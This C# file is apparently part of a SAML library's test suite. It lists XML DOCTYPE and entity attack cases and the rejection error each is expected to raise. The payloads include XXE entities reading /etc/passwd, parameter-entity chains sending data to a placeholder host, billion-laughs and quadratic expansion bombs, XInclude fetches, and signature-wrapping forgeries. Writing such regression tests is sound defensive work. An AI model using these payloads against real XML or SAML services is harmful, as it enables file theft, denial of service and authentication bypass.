using System.Text;
using static Saml.Core.SamlErrorCode;
using static Saml.Core.Tests.Attacks.Attack;
using static Saml.Core.Tests.Attacks.Genuine;

namespace Saml.Core.Tests.Attacks;

/// <summary>Group DT: document types, entities, and what else makes a parser fetch or invent.</summary>
internal static class DoctypeAttacks
{
    private const string Status = "<saml2p:Status ";
    private const string EndOfStatusCode = "Success\"/>";
    private const string Recipient = " Recipient=\"" + Validation.Vector.ServiceUrl + "\"";

    public static IReadOnlyList<Attack> All { get; } =
    [
        .. Prolog("DT-1", "a harmless DOCTYPE", "<!DOCTYPE samlp:Response>", Control.NaiveVerifier),
        .. Prolog("DT-1", "an empty internal subset", "<!DOCTYPE saml2p:Response []>", Control.NaiveVerifier),
        .. Prolog("DT-1", "behind a comment", "<!-- x -->\n<!DOCTYPE saml2p:Response>", Control.NaiveVerifier),
        .. Prolog("DT-1", "one that is never closed", "<!DOCTYPE saml2p:Response ["),
        .. Prolog("DT-1", "two of them", "<!DOCTYPE a><!DOCTYPE b>"),
        .. Changed(Bases.All, "DT-1", "a DOCTYPE where the XML declaration was", DtdNotAllowed, m => "<!DOCTYPE saml2p:Response>" + m.Response, Control.NaiveVerifier),
        .. Changed(Bases.All, "DT-1", "a DOCTYPE before the XML declaration", DtdNotAllowed, m => "<!DOCTYPE saml2p:Response>" + m.Xml),
        .. Prolog("DT-2", "an external subset, SYSTEM", "<!DOCTYPE r SYSTEM \"http://192.0.2.1/x.dtd\">"),
        .. Prolog("DT-2", "an external subset, PUBLIC", "<!DOCTYPE r PUBLIC \"-//x//y\" \"http://192.0.2.1/x.dtd\">"),
        .. Prolog("DT-2", "an external parameter entity", "<!DOCTYPE foo [<!ENTITY % xxe SYSTEM \"http://192.0.2.1/\"> %xxe;]>"),
        .. Entity("DT-3", "a file in the NameID", "<!DOCTYPE r [<!ENTITY f SYSTEM \"file:///etc/passwd\">]>", UserId, "&f;"),
        .. Entity("DT-3", "a file in an attribute value", "<!DOCTYPE r [<!ENTITY f SYSTEM \"file:///etc/hostname\">]>", "Customer Care", "&f;"),
        .. Entity("DT-3", "a URL in the Destination", "<!DOCTYPE r [<!ENTITY f SYSTEM \"http://192.0.2.1/\">]>", "Destination=\"", "Destination=\"&f;"),
        .. Prolog("DT-4", "a chain of parameter entities", "<!DOCTYPE r [<!ENTITY % a \"<!ENTITY &#37; b SYSTEM 'http://192.0.2.1/?x'>\">%a;%b;]>"),
        .. Prolog("DT-4", "a file sent out by a parameter entity", "<!DOCTYPE r [<!ENTITY % f SYSTEM \"file:///etc/passwd\"><!ENTITY % d SYSTEM \"http://192.0.2.1/d.dtd\">%d;%send;]>"),
        .. Prolog("DT-4", "a parameter entity that nobody declares", "<!DOCTYPE r [%x;]>"),
        .. Entity("DT-5", "ten levels of ten", BillionLaughs(), UserId, "&e9;"),
        .. Entity("DT-5", "an entity of itself", "<!DOCTYPE r [<!ENTITY a \"&b;\"><!ENTITY b \"&a;\">]>", UserId, "&a;"),
        .. Entity("DT-6", "one long entity, fifty thousand times", QuadraticBlowUp(), UserId, string.Concat(Enumerable.Repeat("&a;", 50_000))),
        .. Changed(Bases.WithSignedAssertion, "DT-7", "a Recipient by default", DtdNotAllowed,
            m => Declare(m.With(Recipient, ""), $"<!DOCTYPE r [<!ATTLIST saml2:SubjectConfirmationData Recipient CDATA \"{Validation.Vector.ServiceUrl.Replace("&", "&amp;")}\">]>")),
        .. Prolog("DT-7", "an ID by default", $"<!DOCTYPE r [<!ATTLIST saml2p:StatusCode ID CDATA \"{AssertionId}\">]>"),
        .. Prolog("DT-7", "an attribute that is an ID", "<!DOCTYPE r [<!ATTLIST saml2:Attribute Name ID #IMPLIED>]>"),
        .. Changed(Bases.All, "DT-8", "a Signature's namespace by default, declared twice", DtdNotAllowed,
            m => Declare(
                Forge(m.Xml).Once(EndOfStatusCode, $"{EndOfStatusCode}<saml2p:StatusDetail>{Unprefixed(m.Signature)}{m.UnsignedAssertion}</saml2p:StatusDetail>"),
                "<!DOCTYPE Response [<!ATTLIST Signature xmlns CDATA #FIXED \"http://www.w3.org/2000/09/xmldsig#\" xmlns CDATA \"block\">]>")),
        .. Changed(Bases.All, "DT-9", "a forged message behind quotes that are read in two ways", DtdNotAllowed,
            m => "<!DOCTYPE response SYSTEM 'x\"><!--'>" + Append(Forge(m.UnsignedResponse), $"<![CDATA[-->{m.Response}<!--]]>-->")),
        .. Changed(Bases.All, "DT-10", "a NOTATION whose quotes are lost on the way", DtdNotAllowed,
            m => "<!DOCTYPE x [ <!NOTATION x SYSTEM 'x\">]><!--'> ]>" + Append(Forge(m.UnsignedResponse), $"<![CDATA[-->{m.Response}<!--]]>-->")),
        .. Changed(Bases.All, "DT-11", "a DOCTYPE behind the document element", MalformedXml, m => m.Xml + "<!DOCTYPE r>"),
        .. Changed(Bases.All, "DT-11", "a DOCTYPE in the document element", MalformedXml, m => m.Before(Status, "<!DOCTYPE r>")),
        .. Changed(Bases.All, "DT-11", "a DOCTYPE in the NameID", MalformedXml, m => m.With(UserId, UserId + "<!DOCTYPE r [<!ENTITY e \"x\">]>")),
        .. Changed(Bases.All, "DT-11", "an ENTITY in the document element", MalformedXml, m => m.Before(Status, "<!ENTITY e \"x\">")),
        .. Changed(Bases.All, "DT-11", "a DOCTYPE in lower case", MalformedXml, m => Declare(m.Xml, "<!doctype saml2p:Response>")),
        .. Changed(Bases.All, "DT-11", "an ENTITY outside a DOCTYPE", MalformedXml, m => Declare(m.Xml, "<!ENTITY e \"x\">")),
        .. Changed(Bases.All, "DT-11", "a conditional section", MalformedXml, m => Declare(m.Xml, "<![INCLUDE[<!ENTITY e \"x\">]]>")),
        .. Changed(Bases.All, "DT-11", "a DOCTYPE in a comment, where it is nothing", None, m => Declare(m.Xml, "<!-- <!DOCTYPE r [<!ENTITY e \"x\">]> -->")),
        .. Changed(Bases.Response | Bases.Assertion, "DT-12", "an assertion with a DOCTYPE, encrypted", EncryptedAssertionNotSupported,
            m => m.With(m.Assertion, Encrypted($"<!DOCTYPE r [<!ENTITY e \"x\">]>{m.Assertion}"))),
        .. Encoded("little-endian", Encoding.Unicode, true),
        .. Encoded("little-endian, unmarked", Encoding.Unicode, false),
        .. Encoded("big-endian", Encoding.BigEndianUnicode, true),
        .. Encoded("big-endian, unmarked", Encoding.BigEndianUnicode, false),
        .. Inert("XInclude in Extensions", xml => xml.Once(Status, $"<saml2p:Extensions><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\" parse=\"text\"/></saml2p:Extensions>{Status}")),
        .. Inert("schemaLocation by http", xml => xml.Once("<saml2p:Response ", "<saml2p:Response xmlns:xsi=\"http://www.w3.org/2001/XMLSchema-instance\" xsi:schemaLocation=\"urn:x http://192.0.2.1/x.xsd\" ")),
        .. Inert("xml:base", xml => xml.Once("<saml2p:Response ", "<saml2p:Response xml:base=\"http://192.0.2.1/\" ")),
        .. Written(Bases.All, "DT-14", "XInclude in the NameID", UnexpectedElement,
            xml => xml.Once($">{UserId}<", "><xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://192.0.2.1/\"/><"), Control.NaiveVerifier),
        .. Written(Bases.Response, "DT-14", "XInclude instead of the assertion", UnexpectedElement,
            xml => xml.Once(Of(Saml.Core.Testing.SignaturePlacement.Response).Assertion, "<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"http://192.0.2.1/\"/>"),
            Control.NaiveVerifier),
        .. Changed(Bases.All, "DT-14", "a style sheet", ProcessingInstructionNotAllowed,
            m => Declare(m.Xml, "<?xml-stylesheet type=\"text/xsl\" href=\"http://192.0.2.1/x.xsl\"?>"), Control.NaiveVerifier),
        .. Minted(Bases.All, "DT-15", "references in the NameID, all of which are read", None, t => t with { NameId = "admin&co<\"x\">@victim.example" }),
        .. Changed(Bases.All, "DT-15", "references in the NameID that nobody has to make", None, m => m.With(UserId, "&#x6A;ane&#46;doe&#64;example.com")),
        .. Entity("DT-15", "a reference that stays a node", "<!DOCTYPE r [<!ENTITY e \".doe@example.com\">]>", UserId, "jane&e;", Control.NaiveVerifier),
    ];

    private static string Declare(string xml, string declaration) => xml.Once("?>", "?>" + declaration);

    private static IEnumerable<Attack> Prolog(string row, string name, string declaration, Control control = Control.Twin) =>
        Changed(Bases.All, row, name, DtdNotAllowed, m => Declare(m.Xml, declaration), control);

    private static IEnumerable<Attack> Entity(
        string row, string name, string declaration, string old, string replacement, Control control = Control.Twin) =>
        Changed(Bases.All, row, name, DtdNotAllowed, m => Declare(m.With(old, replacement), declaration), control);

    private static IEnumerable<Attack> Inert(string name, Func<string, string> change) =>
        Written(Bases.All, "DT-14", name, None, change);

    private static IEnumerable<Attack> Encoded(string name, Encoding encoding, bool marked) =>
        Octets(Bases.All, "DT-13", $"UTF-16, {name}", UnsupportedXmlEncoding, m =>
        [
            .. marked ? encoding.GetPreamble() : [],
            .. encoding.GetBytes("<!DOCTYPE saml2p:Response>" + m.Response),
        ]);

    private static string Unprefixed(string signature) =>
        signature.Once(" xmlns:ds=\"http://www.w3.org/2000/09/xmldsig#\"", "").Replace("ds:", "");

    private static string Encrypted(string plainText) =>
        "<saml2:EncryptedAssertion xmlns:saml2=\"urn:oasis:names:tc:SAML:2.0:assertion\"><xenc:EncryptedData xmlns:xenc=\"http://www.w3.org/2001/04/xmlenc#\"><xenc:CipherData>"
        + $"<xenc:CipherValue>{Convert.ToBase64String(Encoding.UTF8.GetBytes(plainText))}</xenc:CipherValue>"
        + "</xenc:CipherData></xenc:EncryptedData></saml2:EncryptedAssertion>";

    private static string BillionLaughs() =>
        "<!DOCTYPE r [<!ENTITY e0 \"lol\">"
        + string.Concat(Enumerable.Range(1, 9).Select(i => $"<!ENTITY e{i} \"{string.Concat(Enumerable.Repeat($"&e{i - 1};", 10))}\">"))
        + "]>";

    private static string QuadraticBlowUp() => $"<!DOCTYPE r [<!ENTITY a \"{new string('a', 50_000)}\">]>";
}
